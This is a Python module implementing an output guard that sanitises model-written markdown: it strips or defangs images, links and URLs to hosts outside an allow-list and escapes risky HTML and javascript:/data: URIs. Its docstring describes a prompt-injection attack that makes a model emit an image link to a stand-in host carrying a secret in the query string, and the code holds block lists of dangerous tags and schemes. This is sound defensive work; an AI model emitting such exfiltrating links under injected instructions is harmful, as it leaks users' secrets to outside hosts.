r"""Answer text made safe to render: no fetch, no click-through to a host the deployment did not allow.

An injected instruction that gets the model to write ``![](https://evil.example/?q=<secret>)``
leaks the secret the moment a chat UI renders the image, without any click; a link does the same
on click. So before an answer is shown:

- images to a host outside ``allowed_hosts`` are replaced by their alt text in brackets;
- links to such hosts become their text followed by ``(link removed: host)``;
- autolinks and bare URLs to such hosts are defanged: ``hxxps://evil[.]example/path``, with the
  query string and fragment dropped (that is where leaked data rides), so nothing auto-links;
- raw HTML that can fetch, link or run (``<img>``, ``<a>``, ``<script>``, ``<iframe>``,
  ``<style>``, ``on*=`` handlers, ``src=``/``href=``/``style=`` attributes) is escaped as text;
- ``javascript:``, ``vbscript:``, ``data:`` and ``file:`` URIs are removed wherever they are a
  link or image target, whatever the allowed hosts.

Relative links (``/kb/doc/12``, ``policy.pdf#p3``) and hosts in ``allowed_hosts`` (and their
subdomains) are kept as written. Code is sanitised like prose: a renderer fetches nothing from a
code block, but telling code from prose takes a full markdown parser (an unclosed backtick, an HTML
block or a list item changes the answer), and a sanitiser that guesses "code" wrongly lets an image
through. The price is a defanged URL in a code sample (unless its host is allowed) and HTML in code
shown escaped. URLs are read as a CommonMark renderer and a browser would read them (entities,
backslash escapes, control characters, ``\`` for ``/``). The result is markdown for a CommonMark
renderer without "fuzzy" linkification of bare domains (``evil.example/x`` without a scheme or
``www.`` is left as text); it is not an HTML sanitiser for a page that renders arbitrary HTML.
"""

from __future__ import annotations

import html
import re
from collections.abc import Iterable
from dataclasses import dataclass
from urllib.parse import parse_qs, urlsplit

from cairn.guard.base import GUARDS, GuardVerdict

_ALWAYS_REMOVED = frozenset({"javascript", "vbscript", "data", "file"})
_WEB_SCHEMES = frozenset({"http", "https", "ftp", "ftps", "ws", "wss"})


@dataclass(frozen=True, slots=True)
class SanitizeResult:
    """The safe text, and one entry per removal (``image:evil.example``, ``html:script``) for the audit log."""

    text: str
    removed: tuple[str, ...] = ()


def host_of(url: str) -> str | None:
    """The host a URL would reach, or None for a relative URL (which stays on the serving site)."""
    url = url.strip().strip("<>")
    lowered = url.lower()
    if lowered.startswith("www."):
        url = "http://" + url
    elif lowered.startswith("//"):
        url = "http:" + url
    parts = urlsplit(url)
    if not parts.scheme:
        return None
    if parts.scheme.lower() not in _WEB_SCHEMES:
        return parts.scheme.lower()
    try:
        host = parts.hostname
    except ValueError:
        host = None
    return (host or parts.netloc or "?").lower().rstrip(".")


def _scheme(url: str) -> str:
    match = re.match(r"\s*<?\s*([A-Za-z][A-Za-z0-9+.\-]*):", url)
    return match.group(1).lower() if match else ""


class _Sanitizer:
    def __init__(self, allowed_hosts: Iterable[str]) -> None:
        self.allowed = tuple(h.lower().strip().lstrip(".") for h in allowed_hosts if h.strip())
        self.removed: list[str] = []

    def verdict(self, url: str) -> str | None:
        """None when the URL may stay; otherwise the name to show for where it pointed."""
        # Read the destination as a renderer and then a browser will: markdown decodes entities and
        # backslash escapes (``https&#58;//``, ``https\://``), browsers drop control characters and
        # spaces inside a scheme (``java\tscript:``) and read ``\`` as ``/`` (``\\host`` is ``//host``).
        decoded = _MD_ESCAPE.sub(r"\1", html.unescape(url))
        compact = re.sub(r"[\x00-\x20]", "", decoded).replace("\\", "/")
        scheme = _scheme(compact)
        if scheme in _ALWAYS_REMOVED:
            return scheme
        host = host_of(compact)
        if host is None:
            return None
        if scheme and scheme not in _WEB_SCHEMES:
            return scheme
        if any(host == a or host.endswith("." + a) for a in self.allowed):
            return None
        return host

    def image(self, m: re.Match[str]) -> str:
        alt, url = m.group("alt"), m.group("url")
        where = self.verdict(url)
        if where is None:
            return m.group(0)
        self.removed.append(f"image:{where}")
        return f"[{alt.strip() or 'image'}]"

    def link(self, m: re.Match[str]) -> str:
        label, url = m.group("label"), m.group("url")
        where = self.verdict(url)
        if where is None:
            return m.group(0)
        self.removed.append(f"link:{where}")
        return f"{label} (link removed: {where})"

    def target(self, m: re.Match[str]) -> str:
        where = self.verdict(m.group("url"))
        if where is None:
            return m.group(0)
        self.removed.append(f"link:{where}")
        return f"] (link removed: {where})"

    def autolink(self, m: re.Match[str]) -> str:
        url = m.group("url")
        if "@" in url and ":" not in url:
            return m.group(0)
        where = self.verdict(url)
        if where is None:
            return m.group(0)
        self.removed.append(f"url:{where}")
        return "(link removed)" if where in _ALWAYS_REMOVED else _defang(url)

    def bare(self, m: re.Match[str]) -> str:
        url = m.group(0)
        trail = ""
        # Sentence punctuation after a URL is not part of it.
        while url and url[-1] in ".,;:!?*_~'\"":
            trail = url[-1] + trail
            url = url[:-1]
        if url.endswith(")") and url.count("(") < url.count(")"):
            trail = ")" + trail
            url = url[:-1]
        where = self.verdict(url)
        if where is None:
            return m.group(0)
        self.removed.append(f"url:{where}")
        return _defang(url) + trail

    def html(self, m: re.Match[str]) -> str:
        tag = m.group(0)
        name = m.group("name").lower()
        if name not in _DANGEROUS_TAGS and not _DANGEROUS_ATTR.search(tag):
            return tag
        if not tag.startswith("</"):
            self.removed.append(f"html:{name}")
        return tag.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _defang(url: str) -> str:
    """``https://evil.example/p?q=1`` -> ``hxxps://evil[.]example/p``: readable, not clickable, no payload."""
    url = url.strip("<>")
    base = re.split(r"[?#]", url, maxsplit=1)[0]
    match = re.match(r"(?i)(?:([a-z][a-z0-9+.\-]*):)?(//)?([^/]*)(.*)", base)
    if not match:
        return "(link removed)"
    scheme, slashes, netloc, path = match.groups()
    out = ""
    if scheme:
        scheme = scheme.lower()
        out += (scheme.replace("tt", "xx", 1) if "tt" in scheme else scheme[0] + "x" + scheme[2:]) + ":"
    out += (slashes or "") + netloc.replace(".", "[.]") + path
    return out


_MD_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_URL_IN_PARENS = r"(?P<url><[^<>\n]*>|(?:[^\s()<>]|\([^\s()<>]*\))*)(?:\s+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?\s*"
# A label may hold one level of brackets: ``[![logo](img.png)](https://elsewhere)``; deeper
# nesting is caught by ``_ANY_TARGET``, which breaks any remaining ``](external)``.
_LABEL = r"(?P<label>(?:[^\[\]\n]|\[[^\[\]\n]*\])*)"
_IMAGE = re.compile(r"!\[(?P<alt>(?:[^\[\]\n]|\[[^\[\]\n]*\])*)\]\(\s*" + _URL_IN_PARENS + r"\)")
_ANY_TARGET = re.compile(r"\]\(\s*" + _URL_IN_PARENS + r"\)")
_LINK = re.compile(r"(?<!!)\[" + _LABEL + r"\]\(\s*" + _URL_IN_PARENS + r"\)")
_REF_DEF = re.compile(
    r"(?m)^[ ]{0,3}\[(?P<ref>[^\[\]\n]+)\]:[ \t]*(?P<url><[^<>\n]*>|\S+)"
    r"(?:[ \t]+(?:\"[^\"\n]*\"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*(?:\n|$)"
)
_AUTOLINK = re.compile(r"<(?P<url>(?:[A-Za-z][A-Za-z0-9+.\-]{1,31}:[^\s<>]*|[^\s<>@]+@[^\s<>@]+\.[A-Za-z]{2,}))>")
_HTML_TAG = re.compile(r"</?(?P<name>[A-Za-z][A-Za-z0-9\-]*)(?:\s[^<>]*)?/?>")
_HTML_COMMENT = re.compile(r"<!--.*?-->", re.DOTALL)
_DANGEROUS_TAGS = frozenset(
    "a img image script iframe frame frameset style link meta object embed applet form input button textarea "
    "select svg math video audio source track picture base body html head template portal noscript".split()
)
_DANGEROUS_ATTR = re.compile(
    r"(?i)\s(?:on[a-z]+|style|src|srcset|href|xlink:href|action|formaction|data|background|poster|ping)\s*="
)
_BARE_URL = re.compile(r"(?i)(?<![\w/@.])(?:(?:https?|ftps?|wss?)://|www\.)[^\s<>\"'`\]\[]+")


def sanitize_markdown(text: str, allowed_hosts: Iterable[str] = ()) -> SanitizeResult:
    """Neutralise every way the rendered text could reach a host outside ``allowed_hosts``."""
    san = _Sanitizer(allowed_hosts)
    work = text
    refs: dict[str, str] = {}

    def definition(m: re.Match[str]) -> str:
        ref = " ".join(m.group("ref").lower().split())
        where = san.verdict(m.group("url"))
        if where is None:
            return m.group(0)
        refs[ref] = where
        return ""

    work = _REF_DEF.sub(definition, work)
    if refs:
        work = _reference_uses(work, refs, san)
    work = _IMAGE.sub(san.image, work)
    work = _LINK.sub(san.link, work)
    work = _ANY_TARGET.sub(san.target, work)
    work = _HTML_COMMENT.sub(lambda m: _comment(m, san), work)
    work = _HTML_TAG.sub(san.html, work)
    work = _AUTOLINK.sub(san.autolink, work)
    work = _BARE_URL.sub(san.bare, work)
    return SanitizeResult(work, tuple(san.removed))


def _comment(m: re.Match[str], san: _Sanitizer) -> str:
    """HTML comments are invisible when rendered: a place to hide text from the reader, so they are shown."""
    san.removed.append("html:comment")
    return m.group(0).replace("<", "&lt;").replace(">", "&gt;")


_REF_USE = re.compile(r"(?P<bang>!?)\[" + _LABEL + r"\](?:\[(?P<ref>[^\[\]\n]*)\])?")


def _reference_uses(work: str, refs: dict[str, str], san: _Sanitizer) -> str:
    def use(m: re.Match[str]) -> str:
        label = m.group("label")
        ref = m.group("ref")
        key = " ".join((ref if ref else label).lower().split())
        if key not in refs:
            return m.group(0)
        where = refs[key]
        if m.group("bang"):
            san.removed.append(f"image:{where}")
            return f"[{label.strip() or 'image'}]"
        san.removed.append(f"link:{where}")
        return f"{label} (link removed: {where})"

    return _REF_USE.sub(use, work)


class OutputGuard:
    """The sanitiser as a :class:`~cairn.guard.base.Guard`: flags text that would reach other hosts."""

    name = "output"

    def __init__(self, allowed_hosts: Iterable[str] = ()) -> None:
        self.allowed_hosts = tuple(allowed_hosts)

    def sanitize(self, text: str) -> SanitizeResult:
        return sanitize_markdown(text, self.allowed_hosts)

    def check(self, text: str) -> GuardVerdict:
        result = self.sanitize(text)
        flagged = bool(result.removed)
        return GuardVerdict(self.name, flagged, 1.0 if flagged else 0.0, tuple(sorted(set(result.removed))))


@GUARDS.register("output")
def _create(location: str, **_: object) -> OutputGuard:
    """``output:`` or ``output:?allowed_hosts=intranet.example.com,docs.example.com``."""
    query = {k: v[-1] for k, v in parse_qs(location.partition("?")[2]).items()}
    return OutputGuard([h for h in query.get("allowed_hosts", "").split(",") if h])
